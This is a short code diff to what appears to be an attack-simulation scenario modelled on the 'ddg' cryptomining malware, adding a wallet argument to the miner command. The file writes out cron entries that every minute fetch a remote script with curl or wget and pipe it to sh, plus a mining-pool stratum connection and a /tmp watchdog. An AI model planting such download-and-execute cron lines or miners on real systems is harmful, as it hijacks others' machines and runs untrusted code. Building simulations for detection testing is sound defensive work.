@@ -1,6 +1,6 @@
 import { quote } from '../../core/quote.js';
 import type { Scenario } from './types.js';
-import { cronLine, dropper, installBinary, processArtifact, RH_CRONTAB, ROOT_CRONTAB, startProcess, stratum } from './kit.js';
+import { cronLine, dropper, installBinary, processArtifact, RH_CRONTAB, ROOT_CRONTAB, startProcess, stratum, WALLET } from './kit.js';
 import { LEGIT_CRON } from './clean.js';
 
 const WATCHDOG = '/tmp/ddg.2021';
@@ -16,7 +16,7 @@ export function respawnCommand(http: string, family: string, path: string, argv:
 export const ddg: Scenario = {
   name: 'ddg',
   plan: (ctx) => {
-    const minerArgv = [MINER, '-o', stratum(ctx.pool, 45700)];
+    const minerArgv = [MINER, '-o', stratum(ctx.pool, 45700), '-u', WALLET];
     const child = respawnCommand(ctx.http, 'ddg', MINER, minerArgv);
     const wdArgv = [WATCHDOG];
     const lines = [`*/1 * * * * curl -fsSL ${ctx.http}/i.sh | sh`, `*/1 * * * * wget -q -O- ${ctx.http}/i.sh | sh`];
